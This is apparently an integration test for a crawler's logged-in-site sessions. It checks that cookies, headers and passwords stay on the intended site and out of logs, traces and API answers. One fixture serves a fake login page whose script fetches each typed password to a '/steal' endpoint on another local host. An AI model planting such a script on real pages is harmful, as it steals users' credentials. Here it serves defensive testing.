// Sessions for logged-in sites, against the real Chromium and a local login-walled site:
// a stored cookie session reaches the member-only page (static and dynamic), a login recipe (no cookies, or an
// expired one) logs in and reaches it, neither fails the page as login_required; the cookie, the header and the
// password never appear in job events, the debug capture, the workflow history or an API answer, and are not
// sent to another host the page references or redirects to.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import { Writable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { InMemorySpanExporter } from '@opentelemetry/sdk-trace-base';
import { loadConfig } from '../../../shared/config.js';
import { startTracing, type Tracing } from '../../../shared/telemetry/tracing.js';
import { waitForJobEnd } from '../../support/crawl-jobs.js';
import { type FixtureSite, html, startFixtureSite } from '../../support/fixture-site.js';
import { startTestService, type TestService } from '../../support/service.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const skip = existsSync(CHROMIUM) ? false : `no Chromium at ${CHROMIUM}`;

const STORED_SID = `sid-${randomBytes(12).toString('hex')}`;
const PASSWORD = `pw-${randomBytes(12).toString('hex')}`;
const TOKEN = `tok-${randomBytes(12).toString('hex')}`;
const MEMBER_TEXT = 'Member price of the Gadget: 42 EUR';
const SECRET_VALUES = [STORED_SID, PASSWORD, TOKEN];

let site: FixtureSite;
/** Another host (another loopback address) the member page loads a stylesheet from and /away redirects to. */
let other: FixtureSite;
let svc: TestService;
const exporter = new InMemorySpanExporter();
let tracing: Tracing | undefined;
let logText = '';
/** Session ids the site accepts: the stored one, and each one a login issued. */
const valid = new Set([STORED_SID]);
const issued: string[] = [];
/** Request headers each host saw, by path. */
const seen: { host: 'site' | 'other'; path: string; url: string; headers: IncomingMessage['headers'] }[] = [];

const LOGIN_PAGE = html(
  'Log in',
  `<form id="login" method="post" action="/login"><input id="user" name="user">
   <input id="password" name="password" type="password"><button type="submit">Log in</button></form>`,
);

const RECIPE = [
  { kind: 'type', selector: '#user', text: 'me' },
  { kind: 'type', selector: '#password', secret: 'password' },
  { kind: 'click', selector: 'button[type=submit]' },
  { kind: 'wait', selector: '#account' },
];

const sidOf = (req: IncomingMessage) => /(?:^|;\s*)sid=([^;]+)/.exec(req.headers.cookie ?? '')?.[1];

function memberPage(otherUrl: string) {
  return html(
    'Members',
    `<h1 id="account">Your account</h1><p>${MEMBER_TEXT}</p><link rel="stylesheet" href="${otherUrl}/look.css">
     <input id="q"><p id="echo"></p><script>document.getElementById('q').addEventListener('input', (e) => {
       document.getElementById('echo').textContent = 'typed ' + e.target.value.length + ' characters';
     });</script>`,
  );
}

before(async () => {
  site = await startFixtureSite();
  other = await startFixtureSite('127.0.0.2');
  const record = (host: 'site' | 'other', req: IncomingMessage) => {
    seen.push({
      host,
      path: (req.url ?? '/').split('?')[0] ?? '/',
      url: req.url ?? '/',
      headers: req.headers,
    });
  };
  site.route('/login', (req, res) => {
    record('site', req);
    if (req.method !== 'POST') {
      res.writeHead(200, { 'content-type': 'text/html' }).end(LOGIN_PAGE);
      return;
    }
    let body = '';
    req.on('data', (c) => {
      body += c;
    });
    req.on('end', () => {
      const form = new URLSearchParams(body);
      if (form.get('user') !== 'me' || form.get('password') !== PASSWORD) {
        res.writeHead(200, { 'content-type': 'text/html' }).end(LOGIN_PAGE);
        return;
      }
      const sid = `sid-${randomBytes(12).toString('hex')}`;
      valid.add(sid);
      issued.push(sid);
      res.writeHead(302, { location: '/members', 'set-cookie': `sid=${sid}; Path=/; HttpOnly` }).end();
    });
  });
  const members = (req: IncomingMessage, res: import('node:http').ServerResponse) => {
    record('site', req);
    const sid = sidOf(req);
    const page = sid && valid.has(sid) ? memberPage(other.url) : LOGIN_PAGE;
    res.writeHead(200, { 'content-type': 'text/html' }).end(page);
  };
  site.route('/members', members);
  site.route('/away', (req, res) => {
    record('site', req);
    res.writeHead(302, { location: `${other.url}/landing` }).end();
  });
  // A stylesheet, not an image: a render that takes no screenshot downloads no images.
  other.route('/look.css', (req, res) => {
    record('other', req);
    res.writeHead(200, { 'content-type': 'text/css' }).end('h1 { color: teal; }');
  });
  site.route('/login-moved', (req, res) => {
    record('site', req);
    res.writeHead(302, { location: `${other.url}/login` }).end();
  });
  // A login page on another host whose script sends whatever is typed to its host.
  other.route('/login', (req, res) => {
    record('other', req);
    const page = LOGIN_PAGE.replace(
      '</form>',
      `</form><script>document.getElementById('password').addEventListener('input', (e) => {
        fetch('/steal?v=' + encodeURIComponent(e.target.value)); });</script>`,
    );
    res.writeHead(200, { 'content-type': 'text/html' }).end(page);
  });
  other.route('/steal', (req, res) => {
    record('other', req);
    res.writeHead(204).end();
  });
  other.route('/landing', (req, res) => {
    record('other', req);
    res
      .writeHead(200, { 'content-type': 'text/html' })
      .end(html('Landing', `<p>${MEMBER_TEXT} elsewhere</p>`));
  });
  if (skip) return;
  tracing = startTracing(loadConfig({}), { serviceName: 'site-session-test', exporter }) as Tracing;
  const logStream = new Writable({
    write(chunk, _encoding, done) {
      logText += chunk.toString();
      done();
    },
  });
  svc = await startTestService({
    tracing,
    logStream,
    env: {
      DYNAMIC_WAIT_MS: '1000',
      CHROMIUM_PATH: CHROMIUM,
      RATE_LIMIT_PER_MINUTE: '1000',
      LOG_LEVEL: 'debug',
    },
  });
});
after(async () => {
  await svc?.close();
  await site?.close();
  await other?.close();
  await tracing?.shutdown();
});

async function call(method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: unknown, key?: string) {
  return svc.app.inject({
    method,
    url: `/api/v1${url}`,
    headers: svc.auth(key),
    ...(payload === undefined ? {} : { payload: payload as Record<string, unknown> }),
  });
}

async function newSite(fetchMode: 'static' | 'dynamic', path = '/members', more = {}): Promise<string> {
  const res = await call('POST', '/sites', { url: `${site.url}${path}`, fetch_mode: fetchMode, ...more });
  assert.equal(res.statusCode, 201, res.body);
  return res.json().id;
}

/** Crawls the site's page alone, waits for the job, and returns the job with its one page's result. */
async function crawlSite(siteId: string) {
  const res = await call('POST', `/sites/${siteId}/crawl`, {
    schema: { price: 'string' },
    options: { max_pages: 1, max_depth: 0 },
    capture_debug: true,
  });
  assert.equal(res.statusCode, 202, res.body);
  const job = await waitForJobEnd(svc, res.json().job_id, 120_000);
  const results = await call('GET', `/jobs/${job.id}/results`);
  assert.equal(results.statusCode, 200, results.body);
  const page = results.json().results?.[0] ?? results.json()[0];
  return { job, page, answers: [res.body, JSON.stringify(job), results.body] };
}

/** Every string in a history, with payloads decoded (they are bytes, which JSON.stringify would hide). */
function historyText(value: unknown, out: string[] = []): string {
  if (value instanceof Uint8Array) out.push(Buffer.from(value).toString('utf8'));
  else if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const v of value) historyText(v, out);
  else if (value && typeof value === 'object') for (const v of Object.values(value)) historyText(v, out);
  return out.join('\n');
}

/** The job leaks none of the session's values: events, debug capture, workflow history, API answers. */
async function assertNoLeak(jobId: string, siteId: string, answers: string[]) {
  const events = JSON.stringify(await svc.deps.events.list(jobId));
  const debug = await call('GET', `/jobs/${jobId}/debug-capture`);
  assert.equal(debug.statusCode, 200, debug.body);
  const handle = svc.deps.temporal.workflow.getHandle(`crawl-${jobId}`);
  const history = historyText(await handle.fetchHistory());
  assert.ok(history.includes(siteId), 'the history was not read (no site id in it)');
  await tracing?.flush();
  const spans = JSON.stringify(
    exporter.getFinishedSpans().map((s) => [s.name, s.attributes, s.events, s.status]),
  );
  assert.ok(spans.includes(jobId), 'no span of the job was read');
  assert.ok(logText.includes(jobId), 'no log line of the job was read');
  const session = await call('GET', `/sites/${siteId}/session`);
  const siteAnswer = await call('GET', `/sites/${siteId}`);
  for (const secret of SECRET_VALUES) {
    assert.ok(!events.includes(secret), 'a session value is in the job events');
    assert.ok(!debug.body.includes(secret), 'a session value is in the debug capture');
    assert.ok(!history.includes(secret), 'a session value is in the workflow history');
    assert.ok(!spans.includes(secret), 'a session value is in a trace');
    assert.ok(!logText.includes(secret), 'a session value is in the logs');
    for (const answer of [...answers, session.body, siteAnswer.body])
      assert.ok(!answer.includes(secret), 'a session value is in an API answer');
  }
}

const sentToModel = () => JSON.stringify(svc.llm.requests.map((r) => r.body));

describe('sessions for logged-in sites', { skip }, () => {
  test('a stored cookie and header reach the member page in the browser, and no other host', async () => {
    const siteId = await newSite('dynamic');
    const put = await call('PUT', `/sites/${siteId}/session`, {
      cookies: [{ name: 'sid', value: STORED_SID }],
      headers: { 'x-site-token': TOKEN },
      logged_out: { selector: 'form#login' },
    });
    assert.equal(put.statusCode, 200, put.body);
    assert.deepEqual(put.json().cookie_names, ['sid']);
    assert.deepEqual(put.json().header_names, ['x-site-token']);
    svc.llm.reset();
    seen.length = 0;
    const { job, page, answers } = await crawlSite(siteId);
    assert.equal(job.status, 'completed', JSON.stringify(job));
    assert.equal(page?.status, 'completed', JSON.stringify(page));
    assert.ok(sentToModel().includes(MEMBER_TEXT), 'the member page did not reach the model');
    const member = seen.find((s) => s.host === 'site' && s.path === '/members');
    assert.equal(member?.headers['x-site-token'], TOKEN, 'the header did not reach the site');
    const sheet = seen.filter((s) => s.host === 'other');
    assert.ok(sheet.length > 0, 'the page did not load its stylesheet from the other host');
    for (const s of sheet) {
      assert.ok(!JSON.stringify(s.headers).includes(STORED_SID), 'the cookie went to another host');
      assert.ok(!JSON.stringify(s.headers).includes(TOKEN), 'the header went to another host');
    }
    await assertNoLeak(job.id, siteId, [...answers, put.body]);
  });

  test('static mode: the cookie and header go to the site, not to the host it redirects to', async () => {
    const siteId = await newSite('static', '/away');
    const put = await call('PUT', `/sites/${siteId}/session`, {
      cookies: [{ name: 'sid', value: STORED_SID }],
      headers: { 'x-site-token': TOKEN },
    });
    assert.equal(put.statusCode, 200, put.body);
    seen.length = 0;
    const { job } = await crawlSite(siteId);
    assert.equal(job.status, 'completed', JSON.stringify(job));
    const away = seen.find((s) => s.host === 'site' && s.path === '/away');
    assert.equal(sidOfHeaders(away?.headers), STORED_SID, 'the cookie did not reach the site');
    const landing = seen.find((s) => s.host === 'other' && s.path === '/landing');
    assert.ok(landing, 'the redirect was not followed');
    assert.ok(!JSON.stringify(landing.headers).includes(STORED_SID), 'the cookie followed the redirect');
    assert.ok(!JSON.stringify(landing.headers).includes(TOKEN), 'the header followed the redirect');
  });

  test('a login recipe replaces an expired cookie: the member page is read, the new session stored', async () => {
    const siteId = await newSite('static');
    const put = await call('PUT', `/sites/${siteId}/session`, {
      cookies: [{ name: 'sid', value: 'expired' }],
      secrets: { password: PASSWORD },
      login: { url: `${site.url}/login`, actions: RECIPE },
      logged_out: { selector: 'form#login' },
    });
    assert.equal(put.statusCode, 200, put.body);
    assert.ok(!put.body.includes(PASSWORD));
    svc.llm.reset();
    const before = issued.length;
    const { job, page, answers } = await crawlSite(siteId);
    assert.equal(page?.status, 'completed', JSON.stringify(page));
    assert.ok(sentToModel().includes(MEMBER_TEXT), 'the member page did not reach the model');
    assert.equal(issued.length, before + 1, 'the recipe did not log in exactly once');
    const session = (await call('GET', `/sites/${siteId}/session`)).json();
    assert.deepEqual(session.cookie_names, ['sid']);
    assert.ok(session.last_login_at, 'no login recorded');
    const fresh = issued.at(-1) as string;
    const stored = await svc.deps.sessions.open(svc.tenantId, siteId);
    assert.equal(stored?.cookies[0]?.value, fresh, 'the new cookie was not stored');
    const raw = JSON.stringify(await svc.deps.sessions.get(svc.tenantId, siteId));
    assert.ok(!raw.includes(fresh) && !raw.includes(PASSWORD), 'the session is stored unsealed');
    SECRET_VALUES.push(fresh);
    await assertNoLeak(job.id, siteId, [...answers, put.body]);
  });

  test('a recipe and no cookie: logs in first; page actions can type no secret (only the recipe does)', async () => {
    const actions = [{ kind: 'type', selector: '#q', secret: 'password' }];
    const refused = await call('POST', '/sites', {
      url: `${site.url}/members`,
      fetch_mode: 'dynamic',
      actions,
    });
    assert.equal(refused.statusCode, 422, refused.body);
    const siteId = await newSite('dynamic', '/members', {
      actions: [{ kind: 'type', selector: '#q', text: 'me' }],
    });
    const put = await call('PUT', `/sites/${siteId}/session`, {
      secrets: { password: PASSWORD },
      login: { url: `${site.url}/login`, actions: RECIPE },
      logged_out: { url_pattern: '/login' },
    });
    assert.equal(put.statusCode, 200, put.body);
    svc.llm.reset();
    const before = issued.length;
    const { job, page, answers } = await crawlSite(siteId);
    assert.equal(page?.status, 'completed', JSON.stringify(page));
    assert.equal(issued.length, before + 1, 'the recipe did not log in exactly once');
    assert.ok(sentToModel().includes(MEMBER_TEXT), 'the member page did not reach the model');
    assert.ok(sentToModel().includes('typed 2 characters'), "the site's action did not run");
    SECRET_VALUES.push(issued.at(-1) as string);
    await assertNoLeak(job.id, siteId, [...answers, put.body]);
  });

  test('a login page that moved to another host gets no secret: login_required', async () => {
    const siteId = await newSite('static');
    const put = await call('PUT', `/sites/${siteId}/session`, {
      secrets: { password: PASSWORD },
      login: { url: `${site.url}/login-moved`, actions: RECIPE },
      logged_out: { selector: 'form#login' },
    });
    assert.equal(put.statusCode, 200, put.body);
    seen.length = 0;
    const { page } = await crawlSite(siteId);
    assert.ok(
      seen.some((s) => s.host === 'other' && s.path === '/login'),
      'the login page on the other host was not opened',
    );
    for (const s of seen.filter((x) => x.host === 'other'))
      assert.ok(!JSON.stringify(s).includes(PASSWORD), 'the password reached another host');
    assert.equal(page?.error_category, 'login_required', JSON.stringify(page));
    assert.match(page?.error_message ?? '', /is typed only there/);
  });

  test('without a session or a recipe a logged-out page fails login_required', async () => {
    const siteId = await newSite('static');
    const put = await call('PUT', `/sites/${siteId}/session`, { logged_out: { selector: 'form#login' } });
    assert.equal(put.statusCode, 200, put.body);
    svc.llm.reset();
    const { job, page } = await crawlSite(siteId);
    assert.equal(page?.status, 'failed', JSON.stringify(page));
    assert.equal(page?.error_category, 'login_required', JSON.stringify(page));
    assert.equal(svc.llm.requests.length, 0, 'the model was asked about a logged-out page');
    assert.equal(job.status, 'failed', JSON.stringify(job));
  });

  test('the API: names only, tenants apart, recipes on the site origin, secrets only in login recipes', async () => {
    const siteId = await newSite('static');
    const missing = await call('GET', `/sites/${siteId}/session`);
    assert.equal(missing.statusCode, 404, missing.body);
    const elsewhere = await call('PUT', `/sites/${siteId}/session`, {
      login: { url: `${other.url}/login`, actions: [{ kind: 'click', selector: 'button' }] },
    });
    assert.equal(elsewhere.statusCode, 422, elsewhere.body);
    const noSecret = await call('PUT', `/sites/${siteId}/session`, {
      login: { url: `${site.url}/login`, actions: [{ kind: 'type', selector: '#p', secret: 'nope' }] },
    });
    assert.equal(noSecret.statusCode, 422, noSecret.body);
    const cookieHeader = await call('PUT', `/sites/${siteId}/session`, { headers: { Cookie: 'a=b' } });
    assert.equal(cookieHeader.statusCode, 422, cookieHeader.body);
    const ok = await call('PUT', `/sites/${siteId}/session`, { secrets: { password: PASSWORD } });
    assert.equal(ok.statusCode, 200, ok.body);
    assert.deepEqual(ok.json().secret_names, ['password']);
    const intruder = await svc.newTenant('intruder');
    for (const method of ['GET', 'PUT', 'DELETE'] as const) {
      const res = await call(
        method,
        `/sites/${siteId}/session`,
        method === 'PUT' ? {} : undefined,
        intruder.apiKey,
      );
      assert.equal(res.statusCode, 404, `${method}: ${res.body}`);
    }
    const extract = await call('POST', '/extract', {
      url: `${site.url}/login`,
      schema: { title: 'string' },
      actions: [{ kind: 'type', selector: '#password', secret: 'password' }],
    });
    assert.equal(extract.statusCode, 422, extract.body);
    assert.match(extract.body, /login recipe/);
    const deleted = await call('DELETE', `/sites/${siteId}/session`);
    assert.equal(deleted.statusCode, 204, deleted.body);
    assert.equal((await call('GET', `/sites/${siteId}/session`)).statusCode, 404);
  });
});

function sidOfHeaders(headers: IncomingMessage['headers'] | undefined): string | undefined {
  return /(?:^|;\s*)sid=([^;]+)/.exec(headers?.cookie ?? '')?.[1];
}
